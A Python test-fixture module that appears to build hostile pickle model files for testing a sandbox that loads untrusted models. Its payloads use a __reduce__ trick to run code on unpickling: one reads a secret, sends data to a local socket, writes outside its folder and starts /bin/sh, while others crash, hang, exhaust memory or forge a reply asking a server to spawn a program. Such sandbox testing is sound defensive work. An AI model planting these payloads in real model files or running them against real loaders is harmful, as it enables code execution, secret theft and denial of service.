"""Hostile model files that really run code (under the operator's --trust-unknown-pickles).

Each payload is a pickle naming only builtins, so it unpickles inside a
sandbox that cannot see the tests. The probe payload tries what an attacker
would (read a planted secret, connect to a socket on 127.0.0.1, write outside
its temp folder, start a program) and reports what happened in the only
channel a real model has: the metadata it loads with, here its class labels.
"""

from __future__ import annotations

import pickle
from pathlib import Path

PROBE = r"""
import os, socket, subprocess
import numpy as np
from sklearn.linear_model import LogisticRegression

seen = {}
try:
    seen["secret"] = "read:" + open(SECRET).read().strip()
except Exception as exc:
    seen["secret"] = "blocked:" + type(exc).__name__
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"leak")
    seen["socket"] = "connected"
except Exception as exc:
    seen["socket"] = "blocked:" + type(exc).__name__
try:
    with open(OUTSIDE, "w") as handle:
        handle.write("escaped")
    seen["write"] = "written"
except Exception as exc:
    seen["write"] = "blocked:" + type(exc).__name__
try:
    with open("/tmp/inside.txt", "w") as handle:
        handle.write("fine")
    seen["tmp"] = "written"
except Exception as exc:
    seen["tmp"] = "blocked:" + type(exc).__name__
try:
    subprocess.run(["/bin/sh", "-c", "touch " + OUTSIDE], check=True)
    seen["program"] = "started"
except Exception as exc:
    seen["program"] = "blocked:" + type(exc).__name__
try:
    seen["home"] = "listed:" + "|".join(sorted(os.listdir(HOME)))
except Exception as exc:
    seen["home"] = "blocked:" + type(exc).__name__
labels = sorted(seen)
X = np.arange(len(labels), dtype=float)[:, None]
model = LogisticRegression().fit(X, np.arange(len(labels)))
model.classes_ = np.array([f"{k}={v}" for k, v in sorted(seen.items())])
__import__("sys")._whybox_probe = model
"""

FORGE = r"""
import json, os, struct
tree = {"t": "dict", "k": ["ok", "v"],
        "v": [True, {"t": "dc", "n": "subprocess.Popen", "f": {"args": ["touch", MARKER]}}]}
text = json.dumps(tree).encode()
frame = struct.pack(">4sIQ", b"WBX1", len(text), 0) + text
for fd in range(3, 64):
    try:
        os.write(fd, frame)
    except OSError:
        pass
import time
time.sleep(600)
"""


LABELS = r"""
import numpy as np
import pandas as pd
from sklearn.linear_model import LogisticRegression

X = pd.DataFrame({COLUMN: np.arange(30, dtype=float)})
model = LogisticRegression().fit(X, np.arange(30) % 3)
model.classes_ = np.array(LABELS)
__import__("sys")._whybox_labels = model
"""

RAISES = r"""
from sklearn.linear_model import LogisticRegression

class Raising(LogisticRegression):
    def predict_proba(self, X):
        raise ValueError(TEXT)

    decision_function = predict = predict_proba

import pandas as pd

model = Raising().fit(pd.DataFrame({COLUMN: [0.0, 1.0, 2.0, 3.0]}), [0, 1, 0, 1])
__import__("sys")._whybox_raising = model
"""

REFUSES = r"""
from explainers.errors import ModelLoadError
raise ModelLoadError(MESSAGE, HINT)
"""


class _Call:
    """Unpickles as ``function(*args)``: the classic pickle payload."""

    def __init__(self, function: object, *args: object) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.function, self.args


def _code(template: str, **names: object) -> str:
    return "".join(f"{k} = {v!r}\n" for k, v in names.items()) + template


def probe(folder: Path, *, secret: Path, port: int, outside: Path, home: Path) -> Path:
    """A model file whose loading tries to escape and records the outcome in its labels."""
    code = _code(PROBE, SECRET=str(secret), PORT=port, OUTSIDE=str(outside), HOME=str(home))
    payload = _Call(eval, f"exec({code!r}) or __import__('sys')._whybox_probe", {})
    path = folder / "probe.pkl"
    path.write_bytes(pickle.dumps(payload, protocol=4))
    return path


def segfault(folder: Path) -> Path:
    """A model file that crashes the process loading it (reads address 0)."""
    import ctypes

    path = folder / "segfault.pkl"
    path.write_bytes(pickle.dumps(_Call(ctypes.string_at, 0), protocol=4))
    return path


def hang(folder: Path) -> Path:
    """A model file that never finishes loading."""
    import time

    path = folder / "hang.pkl"
    path.write_bytes(pickle.dumps(_Call(time.sleep, 3600), protocol=4))
    return path


def busy_loop(folder: Path) -> Path:
    """A model file whose loading spins on the CPU for ever."""
    path = folder / "busy.pkl"
    path.write_bytes(pickle.dumps(_Call(exec, "while True:\n    pass\n"), protocol=4))
    return path


def memory_hog(folder: Path) -> Path:
    """A model file whose loading takes memory 100 MB at a time, for ever."""
    code = "held = []\nwhile True:\n    held.append(bytearray(100 * 2**20))\n"
    path = folder / "hog.pkl"
    path.write_bytes(pickle.dumps(_Call(exec, code), protocol=4))
    return path


def forged_reply(folder: Path, *, marker: Path) -> Path:
    """A model file that writes a forged reply (asking the server to start a program)."""
    payload = _Call(exec, _code(FORGE, MARKER=str(marker)))
    path = folder / "forged.pkl"
    path.write_bytes(pickle.dumps(payload, protocol=4))
    return path


def outcomes(labels: tuple[str, ...]) -> dict[str, str]:
    """The probe's findings from the class labels it loaded with."""
    return dict(label.split("=", 1) for label in labels)


def _exec_payload(folder: Path, name: str, code: str, result: str | None) -> Path:
    expression = f"exec({code!r})" + (f" or __import__('sys').{result}" if result else "")
    path = folder / name
    path.write_bytes(pickle.dumps(_Call(eval, expression, {}), protocol=4))
    return path


def hostile_labels(folder: Path, *, column: str, labels: tuple[str, str, str]) -> Path:
    """A working 3-class model fitted on ``column`` whose class labels are ``labels``."""
    code = _code(LABELS, COLUMN=column, LABELS=list(labels))
    return _exec_payload(folder, "labels.pkl", code, "_whybox_labels")


def raising_text(folder: Path, *, text: str, column: str = "x0") -> Path:
    """A model of ``column`` that loads, then raises ``text`` from every prediction."""
    code = _code(RAISES, TEXT=text, COLUMN=column)
    return _exec_payload(folder, "raises.pkl", code, "_whybox_raising")


def refusing_text(folder: Path, *, message: str, hint: str) -> Path:
    """A model file whose loading raises whybox's own error with ``message`` and ``hint``."""
    return _exec_payload(folder, "refuses.pkl", _code(REFUSES, MESSAGE=message, HINT=hint), None)
